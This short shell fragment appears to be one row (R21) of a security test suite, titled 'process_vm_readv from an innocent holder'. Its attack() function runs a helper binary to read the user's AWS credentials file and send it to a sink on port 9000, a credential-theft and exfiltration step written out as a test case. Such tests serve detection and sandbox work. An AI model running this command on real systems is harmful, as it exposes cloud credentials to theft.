# SPDX-License-Identifier: Apache-2.0
TITLE="process_vm_readv from an innocent holder"
ROW="R21"
attack() { "$PROVOKE/holder" readv "$HOME/.aws/credentials" "$SINK4" 9000; }
